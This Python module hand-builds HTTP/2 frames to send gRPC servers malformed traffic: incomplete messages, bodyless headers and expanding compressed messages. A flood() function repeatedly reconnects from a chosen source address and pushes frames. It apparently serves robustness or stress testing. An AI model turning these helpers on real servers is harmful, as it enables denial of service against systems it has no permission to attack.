"""HTTP/2 for attacks, to send what no gRPC library would: incomplete messages, headers without a body,
compressed messages that expand. A connection follows flow control and sends no acknowledgements."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
CONTINUATION = 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def text(value):
    value = value.encode()
    assert len(value) < 127
    return bytes([len(value)]) + value


def literal(name, value):
    """A header field without compression."""
    return b"\0" + text(name) + text(value)


def header_block(path, **more):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "hostile",
              "content-type": "application/grpc", "te": "trailers",
              **{name.replace("_", "-"): value for name, value in more.items()}}
    return b"".join(literal(name, value) for name, value in fields.items())


def message_head(size, compressed=False):
    """gRPC's head of a message of that size."""
    return bytes([compressed]) + struct.pack(">I", size)


class Connection:
    """To HOST:PORT, from the address `source`. Blocks; one thread."""

    def __init__(self, address, source="", timeout=30):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout, (source, 0))
        self.received = b""
        self.next_stream = 1
        self.window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        self.max_frame = 16384
        self.ended = set()  # streams that the server has ended or reset
        self.goaway = None
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def close(self):
        self.socket.close()

    def open_stream(self, path, end=False, **headers):
        stream = self.next_stream
        self.next_stream += 2
        self.stream_windows[stream] = self.initial_window
        flags = END_HEADERS | (END_STREAM if end else 0)
        self.socket.sendall(frame(HEADERS, flags, stream, header_block(path, **headers)))
        return stream

    def send(self, stream, data, end=False):
        """False: the server has ended the stream or the connection before."""
        view = memoryview(data)
        while view:
            room = min(self.window, self.stream_windows[stream], self.max_frame, len(view))
            if stream in self.ended or self.goaway is not None:
                return False
            if room <= 0:
                if not self.read():
                    return False
                continue
            last = end and room == len(view)
            self.socket.sendall(frame(DATA, END_STREAM if last else 0, stream, bytes(view[:room])))
            self.window -= room
            self.stream_windows[stream] -= room
            view = view[room:]
        return True

    def reset(self, stream):
        self.socket.sendall(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))

    def read(self):
        """Reads and processes the server's next frames. False: the connection has ended."""
        try:
            data = self.socket.recv(1 << 16)
        except (ConnectionError, socket.timeout):
            return False
        self.received += data
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                break
            kind, flags = self.received[3], self.received[4]
            stream = int.from_bytes(self.received[5:9], "big") & 0x7FFFFFFF
            payload, self.received = self.received[9:9 + size], self.received[9 + size:]
            self.heed(kind, flags, stream, payload)
        return bool(data)

    def heed(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[i:i + 6])
                if name == 4:
                    for key in self.stream_windows:
                        self.stream_windows[key] += value - self.initial_window
                    self.initial_window = value
                elif name == 5:
                    self.max_frame = value
            self.socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.stream_windows:
                self.stream_windows[stream] += more
        elif kind == GOAWAY:
            self.goaway = payload[8:]
        elif kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM:
            self.ended.add(stream)


def flood(address, source, parts):
    """Sends all parts: each is a function of the connection's first free stream that returns frames. When the
    server ends the connection, the next part goes to a new one. Returns the number of connections."""
    connections, at, stream = 0, None, 1
    host, port = address.rsplit(":", 1)
    for part in parts:
        while True:
            if at is None:
                try:
                    at = socket.create_connection((host, int(port)), 5, (source, 0))
                    at.sendall(PREFACE + frame(SETTINGS, 0, 0))
                except OSError:
                    at = None
                    continue
                connections, stream = connections + 1, 1
            data, used = part(stream)
            try:
                at.sendall(data)
                stream += used
                break
            except OSError:
                at.close()
                at = None
                break
    if at is not None:
        at.close()
    return connections
